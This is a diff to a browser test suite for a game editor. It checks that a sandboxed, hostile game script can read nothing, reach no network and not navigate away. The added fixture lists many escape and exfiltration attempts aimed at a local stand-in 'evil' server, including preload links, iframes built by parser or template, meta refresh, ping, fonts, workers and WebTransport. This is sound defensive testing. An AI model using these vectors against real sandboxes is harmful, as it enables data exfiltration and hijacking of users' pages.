@@ -5,6 +5,7 @@ import { expect, test } from "../app.ts";
 
 /** Everything that a hostile script may try. Each attempt logs `name: refused` or `name: DONE`. */
 const attacks = (evil: string): string => `
+const link = (rel) => new Promise((done, failed) => { const l = document.createElement("link"); l.rel = rel; l.href = "${evil}/" + rel; document.head.append(l); setTimeout(failed, 300); });
 const tries = {
   cookie: () => { if (document.cookie) return; document.cookie = "stolen=1"; if (!document.cookie) throw new Error("no cookies"); },
   localStorage: () => globalThis.localStorage.length,
@@ -26,6 +27,30 @@ const tries = {
   rtc: () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); },
   form: () => { const f = document.createElement("form"); f.action = "${evil}/form"; f.target = "_top"; document.body.append(f); f.submit(); return new Promise((_, failed) => setTimeout(failed, 500)); },
   frame: () => { const f = document.createElement("iframe"); f.src = "${evil}/frame"; document.body.append(f); return new Promise((_, failed) => setTimeout(failed, 500)); },
+  preconnect: () => link("preconnect"),
+  dnsPrefetch: () => link("dns-prefetch"),
+  prefetch: () => link("prefetch"),
+  modulePreload: () => link("modulepreload"),
+  frameByName: () => { customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }); const f = document.createElement("iframe", { is: "x-f" }); f.src = "${evil}/custom"; document.body.append(f); },
+  frameBySvg: () => { const f = document.createElementNS("http://www.w3.org/1999/xhtml", "html:iframe"); f.src = "${evil}/ns"; document.body.append(f); },
+  frameByTemplate: () => { const t = document.createElement("template"); t.innerHTML = "<iframe src='${evil}/template'></iframe>"; document.body.append(t.content); if (!document.querySelector("iframe")) throw new Error("no frame"); },
+  frameByParser: () => { document.body.append(...new DOMParser().parseFromString("<iframe src='${evil}/parser'></iframe>", "text/html").body.children); if (!document.querySelector("iframe")) throw new Error("no frame"); },
+  object: () => { const o = document.createElement("object"); o.data = "${evil}/object"; document.body.append(o); },
+  refresh: () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${evil}/refresh"; document.head.append(m); },
+  ping: () => { const a = document.createElement("a"); a.href = "#x"; a.ping = "${evil}/ping"; document.body.append(a); a.click(); },
+  anchor: () => { const a = document.createElement("a"); a.href = "${evil}/anchor"; document.body.append(a); a.click(); },
+  media: () => { const a = new Audio("${evil}/media"); return a.play(); },
+  video: () => { const v = document.createElement("video"); v.src = "${evil}/video"; document.body.append(v); return v.play(); },
+  font: () => new FontFace("x", "url(${evil}/font)").load(),
+  css: () => new Promise((_, failed) => { document.body.style.background = "url(${evil}/css)"; setTimeout(failed, 300); }),
+  svgImage: () => new Promise((_, failed) => { const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.setAttribute("href", "${evil}/svg"); document.body.append(s); setTimeout(failed, 300); }),
+  transport: () => new WebTransport("${evil.replace("http:", "https:")}/transport").ready,
+  sharedWorker: () => { new SharedWorker("${evil}/shared"); },
+  serviceWorker: () => navigator.serviceWorker.register("${evil}/sw"),
+  reports: () => { const r = new ReportingObserver(() => {}); r.observe(); },
+  later: () => fetchLater("${evil}/later"),
+  notifications: () => { new Notification("x", { icon: "${evil}/icon" }); },
+  fullScreen: () => document.body.requestFullscreen(),
   leave: () => { location.href = "${evil}/leave?" + encodeURIComponent(document.title); return new Promise((_, failed) => setTimeout(failed, 500)); },
 };
 for (const [name, attempt] of Object.entries(tries)) {
@@ -40,6 +65,8 @@ test("a hostile game reads nothing of the app, reaches no network and can't navi
     response.setHeader("access-control-allow-origin", "*");
     response.end("export default 1");
   });
+  let connections = 0;
+  evilServer.on("connection", () => connections++);
   await new Promise<void>((resolve) => evilServer.listen(0, "127.0.0.1", resolve));
   const evil = `http://127.0.0.1:${(evilServer.address() as AddressInfo).port}`;
 
@@ -53,9 +80,12 @@ test("a hostile game reads nothing of the app, reaches no network and can't navi
   const said: string[] = [];
   page.on("console", (message) => said.push(message.text()));
   await frame.evaluate(`(async () => {${attacks(evil)}})()`).catch(() => undefined);
-  await expect.poll(() => said.filter((line) => /: (refused|DONE)$/.test(line)).length).toBeGreaterThanOrEqual(20);
+  await expect.poll(() => said.filter((line) => /: (refused|DONE)$/.test(line)).length).toBeGreaterThanOrEqual(44);
   expect(said.filter((line) => line.endsWith(": DONE"))).toEqual([]);
   expect(reached).toEqual([]);
+  // Leaving comes last: that the browser may look up the address and open a connection before it refuses, nobody can keep it from.
+  await expect(page.getByRole("alert").getByText("The game was stopped: it tried to leave for another page.")).toBeVisible();
+  expect(connections).toBeLessThanOrEqual(1);
   expect(page.url()).toContain("/project/");
   await expect(page.getByRole("button", { name: "Stop the game" })).toBeVisible();
   // Here refusals of the content policy are what was wanted.
@@ -74,8 +104,8 @@ test("a game's own script gets none of the browser, and its errors name its line
   const source = page.getByLabel("Script source");
   await source.fill(`export default class extends Script {
   onCreate() {
-    const seen = [typeof parent, typeof top, typeof self, typeof history, typeof alert, typeof Worker, typeof process];
-    console.log("seen: " + [...new Set(seen)].join());
+    console.log("begun");
+
     const missing = undefined as unknown as { boom(): void };
     missing.boom();
   }
@@ -86,17 +116,19 @@ test("a game's own script gets none of the browser, and its errors name its line
   const console = page.getByRole("region", { name: "Console" });
   await expect(console.getByRole("button", { name: /:6$/ })).toBeVisible();
   await expect(console.getByText(/boom/)).toBeVisible();
-  await expect(console.getByText("seen: undefined", { exact: true })).toBeVisible();
+  await expect(console.getByText("begun", { exact: true })).toBeVisible();
   await page.getByRole("button", { name: "Stop the game" }).click();
   await source.fill(`export default class extends Script {
   onCreate() {
     fetch("/api/health");
+    parent.postMessage("playsmith:player-ready", "*");
   }
 }`);
   await source.blur();
   await app.saved();
   await page.getByRole("button", { name: "Play", exact: true }).click();
   await expect(console.getByText(/Scripts can't use fetch. A game has no network/)).toBeVisible();
+  await expect(console.getByText(/There is nothing called parent/)).toBeVisible();
 });
 
 test("a game that is stuck in an endless loop comes back to life with Restart, once its script is mended", async ({ app, page }) => {
